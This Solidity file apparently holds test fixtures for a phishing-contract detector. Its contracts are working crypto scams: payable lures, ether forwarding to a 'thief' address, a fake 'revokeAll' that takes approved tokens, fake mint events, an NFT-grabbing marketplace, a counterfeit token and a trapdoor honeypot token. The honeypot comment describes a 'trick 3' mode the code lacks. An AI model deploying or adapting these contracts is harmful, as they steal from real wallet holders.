// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";

/// Payable functions with kind names; a `withdraw` for one owner (PTXPhish's two largest payable families). Test use only.
contract PayableLure {
    address private _owner = msg.sender;

    receive() external payable {}

    fallback() external payable {}

    function claim() external payable {}

    function Claim(address) external payable {}

    function claimReward(address, uint256) external payable {}

    function claimAirdrop(bytes32[] calldata, uint256) external payable {}

    function mint(uint256) external payable {}

    function SecurityUpdate() external payable {}

    function connectWallet() external payable {}

    function NetworkMerge() external payable {}

    function verifyWallet(bytes calldata) external payable {}

    function swap(uint256, address) external payable {}

    function withdraw() external {
        require(msg.sender == _owner, "owner");
        payable(_owner).transfer(address(this).balance);
    }
}

/// Passes the ether on at once.
contract ForwardingLure {
    address payable private immutable _thief = payable(msg.sender);

    function register() external payable {
        _thief.transfer(msg.value);
    }

    function buyPresale(address) external payable {
        (bool sent,) = _thief.call{value: msg.value}("");
        require(sent);
    }
}

/// Gives a token of its own for the ether: worthless, and the emitted amount is a lie of form.
contract WorthlessToken is ERC20 {
    address private _owner = msg.sender;

    constructor() ERC20("Reward Points", "RWD") {}

    function claim() external payable {
        _mint(msg.sender, 5000e18);
    }

    function withdraw() external {
        require(msg.sender == _owner);
        payable(_owner).transfer(address(this).balance);
    }
}

/// Says in events what never happens.
contract EventLure {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Minted(address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    address private _owner = msg.sender;

    function mint() external payable {
        emit Transfer(address(0), msg.sender, 1_000_000e18);
        emit Minted(msg.sender, 1_000_000e18);
    }

    /// Takes the coin approved to it and logs the takings as a revocation.
    function revokeAll(address token) external {
        IERC20(token).transferFrom(msg.sender, _owner, IERC20(token).balanceOf(msg.sender));
        emit Approval(msg.sender, address(this), 0);
    }

    function withdraw() external {
        require(msg.sender == _owner);
        payable(_owner).transfer(address(this).balance);
    }
}

/// An ERC-721 whose Transfer events name a mint that its books do not hold.
contract GhostMint {
    event Transfer(address indexed from, address indexed to, uint256 indexed id);

    address private _owner = msg.sender;

    function mint(uint256 count) external payable {
        for (uint256 i = 0; i < count; i++) emit Transfer(address(0), msg.sender, i);
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function ownerOf(uint256) external view returns (address) {
        return _owner;
    }

    function supportsInterface(bytes4 id) external pure returns (bool) {
        return id == 0x80ac58cd || id == 0x01ffc9a7;
    }

    function withdraw() external {
        require(msg.sender == _owner);
        payable(_owner).transfer(address(this).balance);
    }
}

/// A marketplace in name: `list` takes the item, `buy` by its owner is free.
contract FakeMarket {
    address private _owner = msg.sender;

    function list(address collection, uint256 id, uint256) external {
        IERC721(collection).transferFrom(msg.sender, _owner, id);
    }

    function acceptOffer(address collection, uint256[] calldata ids) external payable {
        for (uint256 i = 0; i < ids.length; i++) IERC721(collection).transferFrom(msg.sender, _owner, ids[i]);
    }

    function take(address collection, address from, uint256 id) external {
        require(msg.sender == _owner);
        IERC721(collection).transferFrom(from, _owner, id);
    }
}

/// Wears a listed token's name and symbol at another address.
contract Counterfeit is ERC20 {
    uint8 private immutable _places;

    constructor(string memory name_, string memory symbol_, uint8 places) ERC20(name_, symbol_) {
        _places = places;
    }

    function decimals() public view override returns (uint8) {
        return _places;
    }

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }
}

/// Can be bought from its pool, not sold: only the maker and the pool may send (trapdoor token).
contract TrapToken is ERC20 {
    address private immutable _maker = msg.sender;
    address public pool;
    uint8 public immutable trick;

    constructor(uint8 trick_) ERC20("Moon Otter", "MOTTER") {
        trick = trick_;
        _mint(msg.sender, 1_000_000e18);
    }

    function open(address pool_) external {
        require(msg.sender == _maker);
        pool = pool_;
    }

    function _update(address from, address to, uint256 amount) internal override {
        bool bound = from != address(0) && from != _maker && from != pool;
        // 0: nobody else may send at all. 1: selling to the pool fails. 2: a sale burns all but a thousandth. 3: a sale
        // works while the ether price of gas says that somebody is only looking.
        if (bound && trick == 0) revert("not yet");
        if (bound && trick == 1 && to == pool) revert("TransferHelper: TRANSFER_FROM_FAILED");
        if (bound && trick == 2 && to == pool) {
            super._update(from, address(0), amount - amount / 1000);
            amount = amount / 1000;
        }
        super._update(from, to, amount);
    }
}

/// Sells a token for ether and never takes it back; the purchase is real.
contract PresaleLure {
    address private _owner = msg.sender;
    ERC20 private _token;

    constructor(ERC20 token) {
        _token = token;
    }

    function buy() external payable {
        _token.transfer(msg.sender, msg.value * 1000);
    }

    function withdraw() external {
        require(msg.sender == _owner);
        payable(_owner).transfer(address(this).balance);
    }
}

/// Two programs for one proxy: the first gives interest, the second keeps everything.
contract KindClaim {
    constructor() payable {}

    receive() external payable {}

    function claim() external payable {
        (bool sent,) = msg.sender.call{value: msg.value + 0.01 ether}("");
        require(sent);
    }
}

contract GrabbingClaim {
    function claim() external payable {}
}
